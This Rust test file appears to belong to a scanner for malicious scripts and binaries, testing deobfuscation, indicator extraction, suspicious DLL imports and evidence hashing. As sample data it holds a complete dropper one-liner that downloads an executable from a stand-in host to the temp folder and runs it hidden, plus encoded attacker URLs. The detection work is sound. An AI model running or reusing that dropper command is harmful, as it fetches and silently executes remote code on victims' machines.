use kovacs::binary::{is_suspicious_dll, suspicious_imports};
use kovacs::fingerprint::evidence_fingerprint;
use kovacs::models::ScanResult;
use kovacs::scan::{gather_network_iocs, scan_script, texts_to_search};
use kovacs::utils::file::{classify_header, FileCategory};
use kovacs::utils::treat_detection::is_threat;

fn s(x: &str) -> String {
    x.to_string()
}

#[test]
fn empty_report_is_the_title() {
    let r = ScanResult::new();
    assert_eq!(r.report(), s("# --- [ KOVACS EVIDENCES ] ---\n"));
}

#[test]
fn report_sections_in_order() {
    let mut r = ScanResult::new();
    r.urls.push(s("http://a.io"));
    r.ips.push(s("1.2.3.4"));
    r.base64_strings.push((s("aGk="), s("hi")));
    r.reversed_strings.push((s("x"), s("cba")));
    r.script_obfuscation.push((s("not"), s("shown")));
    r.shifted_array_strings.push(s("say \"hi\""));
    r.plaintext_iocs.push(s("cmd.exe /c"));
    let expected = "# --- [ KOVACS EVIDENCES ] ---\n\
\n## [ NETWORK IOCs ] ---\nIP: 1.2.3.4\
\n## [ URL IOCs ]\nURL: http://a.io\
\n## [ DECODED BASE64 ]\nOriginal: aGk=\n↳ Decoded: hi\
\n## [ OBFUSCATION DETECTED (StrReverse) ]\nOriginal: x\n↳ Reversed: cba\
\n## [ OBFUSCATION DETECTED (Array Math) ]\nArray Shift Decoded: \"say \\\"hi\\\"\"\
\n## [ PLAINTEXT THREAT SCAN ]\nPlaintext IOC Detected: cmd.exe /c";
    assert_eq!(r.report(), s(expected));
}

#[test]
fn scan_collects_network_indicators_from_findings() {
    let content = "u = \"aHR0cDovL2V2aWwuZXhhbXBsZS5jb20v\"\nstart cmd.exe /c http://x.io/p\n";
    let r = scan_script(content);
    assert_eq!(r.base64_strings, vec![(s("aHR0cDovL2V2aWwuZXhhbXBsZS5jb20v"), s("http://evil.example.com/"))]);
    assert_eq!(r.plaintext_iocs, vec![s("start cmd.exe /c http://x.io/p")]);
    assert!(r.reversed_strings.is_empty());
    assert_eq!(r.urls, vec![s("http://evil.example.com/"), s("http://x.io/p")]);
    assert!(r.ips.is_empty());
}

#[test]
fn gathering_keeps_repeats_across_texts() {
    let texts = vec![s("http://a.io/"), s("http://a.io/")];
    let mut urls = Vec::new();
    let mut ips = Vec::new();
    gather_network_iocs(&texts, &mut urls, &mut ips);
    assert_eq!(urls, vec![s("http://a.io/"), s("http://a.io/")]);
}

#[test]
fn texts_follow_the_field_order() {
    let mut r = ScanResult::new();
    r.plaintext_iocs.push(s("p"));
    r.base64_strings.push((s("o"), s("b")));
    r.shifted_array_strings.push(s("a"));
    r.stateful_obfuscation.push((s("v"), s("st")));
    assert_eq!(texts_to_search(&r), vec![s("b"), s("st"), s("a"), s("p")]);
}

#[test]
fn file_headers() {
    assert_eq!(classify_header(&[0x4d, 0x5a, 0x90, 0x00]), FileCategory::ExecutablePE);
    assert_eq!(classify_header(&[0x7f, 0x45, 0x4c, 0x46]), FileCategory::ExecutableELF);
    assert_eq!(classify_header(b"#!/b"), FileCategory::Script);
    assert_eq!(classify_header(b"MZ"), FileCategory::Unknown);
    assert_eq!(classify_header(b""), FileCategory::Unknown);
}

#[test]
fn fingerprint_is_sha256_hex() {
    assert_eq!(
        evidence_fingerprint(b"abc"),
        s("ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad")
    );
    assert_eq!(
        evidence_fingerprint(b""),
        s("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855")
    );
}

#[test]
fn threat_rule_ignores_ascii_case() {
    assert!(is_threat("Start PowerShell"));
    assert!(is_threat("script:hTtPS://url.example.net/"));
    assert!(!is_threat("hello world"));
    assert!(!is_threat(""));
}

#[test]
fn suspicious_libraries() {
    assert!(is_suspicious_dll("wininet.dll"));
    assert!(is_suspicious_dll("advapi32.dll"));
    assert!(!is_suspicious_dll("WININET.DLL"));
    assert!(!is_suspicious_dll("kernel32.dll"));
    let imports = vec![
        (s("kernel32.dll"), s("ExitProcess")),
        (s("wininet.dll"), s("InternetOpenA")),
        (s("advapi32.dll"), s("RegOpenKeyA")),
    ];
    assert_eq!(
        suspicious_imports(&imports),
        vec![(s("wininet.dll"), s("InternetOpenA")), (s("advapi32.dll"), s("RegOpenKeyA"))]
    );
}


fn put16(b: &mut [u8], at: usize, v: u16) {
    b[at..at + 2].copy_from_slice(&v.to_le_bytes());
}

fn put32(b: &mut [u8], at: usize, v: u32) {
    b[at..at + 4].copy_from_slice(&v.to_le_bytes());
}

/// A minimal 32-bit PE image whose only import is `dll!symbol`.
fn tiny_pe(dll: &str, symbol: &str) -> Vec<u8> {
    let mut b = vec![0u8; 0x400];
    b[0] = b'M';
    b[1] = b'Z';
    put32(&mut b, 0x3c, 0x40);
    b[0x40..0x44].copy_from_slice(b"PE\0\0");
    let coff = 0x44;
    put16(&mut b, coff, 0x14c);
    put16(&mut b, coff + 2, 1);
    put16(&mut b, coff + 16, 0xe0);
    put16(&mut b, coff + 18, 0x0102);
    let opt = coff + 20;
    put16(&mut b, opt, 0x10b);
    put32(&mut b, opt + 8, 0x200);
    put32(&mut b, opt + 16, 0x1000);
    put32(&mut b, opt + 20, 0x1000);
    put32(&mut b, opt + 24, 0x1000);
    put32(&mut b, opt + 28, 0x400000);
    put32(&mut b, opt + 32, 0x1000);
    put32(&mut b, opt + 36, 0x200);
    put16(&mut b, opt + 40, 4);
    put16(&mut b, opt + 48, 4);
    put32(&mut b, opt + 56, 0x2000);
    put32(&mut b, opt + 60, 0x200);
    put16(&mut b, opt + 68, 3);
    put32(&mut b, opt + 72, 0x100000);
    put32(&mut b, opt + 76, 0x1000);
    put32(&mut b, opt + 80, 0x100000);
    put32(&mut b, opt + 84, 0x1000);
    put32(&mut b, opt + 92, 16);
    put32(&mut b, opt + 96 + 8, 0x1000);
    put32(&mut b, opt + 96 + 12, 40);
    let sec = opt + 0xe0;
    b[sec..sec + 6].copy_from_slice(b".idata");
    put32(&mut b, sec + 8, 0x200);
    put32(&mut b, sec + 12, 0x1000);
    put32(&mut b, sec + 16, 0x200);
    put32(&mut b, sec + 20, 0x200);
    put32(&mut b, sec + 36, 0xc0000040);
    let raw = 0x200;
    put32(&mut b, raw, 0x1040);
    put32(&mut b, raw + 12, 0x1060);
    put32(&mut b, raw + 16, 0x1050);
    put32(&mut b, raw + 0x40, 0x1080);
    put32(&mut b, raw + 0x50, 0x1080);
    b[raw + 0x60..raw + 0x60 + dll.len()].copy_from_slice(dll.as_bytes());
    b[raw + 0x82..raw + 0x82 + symbol.len()].copy_from_slice(symbol.as_bytes());
    b
}

fn pe_imports(bytes: &[u8]) -> Vec<(String, String)> {
    let pe = goblin::pe::PE::parse(bytes).expect("a PE image");
    pe.imports.iter().map(|i| (i.dll.to_string(), i.name.to_string())).collect()
}

#[test]
fn pe_imports_from_suspicious_libraries() {
    let pe = tiny_pe("wininet.dll", "InternetOpenA");
    assert_eq!(classify_header(&pe), FileCategory::ExecutablePE);
    assert_eq!(
        suspicious_imports(&pe_imports(&pe)),
        vec![(s("wininet.dll"), s("InternetOpenA"))]
    );
    let pe = tiny_pe("kernel32.dll", "ExitProcess");
    assert_eq!(pe_imports(&pe), vec![(s("kernel32.dll"), s("ExitProcess"))]);
    assert!(suspicious_imports(&pe_imports(&pe)).is_empty());
}

#[test]
fn dropper_line_gives_plaintext_indicator_and_url() {
    let line = "start /min cmd.exe /c powershell -WindowStyle Hidden -Command \"& { iwr -Uri '(https://url.example.net/Stb/Retev.php?kaDhs7ys.txt' -OutFile $env:TEMP\\BK473087.exe; Start-Process -FilePath $env:TEMP\\BK473087.exe -WindowStyle Hidden }\"";
    let r = scan_script(line);
    assert_eq!(r.plaintext_iocs, vec![s(line)]);
    assert!(r.base64_strings.is_empty());
    assert_eq!(r.urls, vec![s("https://url.example.net/Stb/Retev.php?kaDhs7ys.txt'")]);
    assert!(r.ips.is_empty());
}

#[test]
fn threat_rule_same_for_lower_case_form() {
    for text in ["POWERSHELL -c", "Hello", "GetObject(\"x\")", "FILE.EXE", "ScRiPt:"] {
        assert_eq!(is_threat(text), is_threat(&text.to_ascii_lowercase()), "{:?}", text);
    }
}
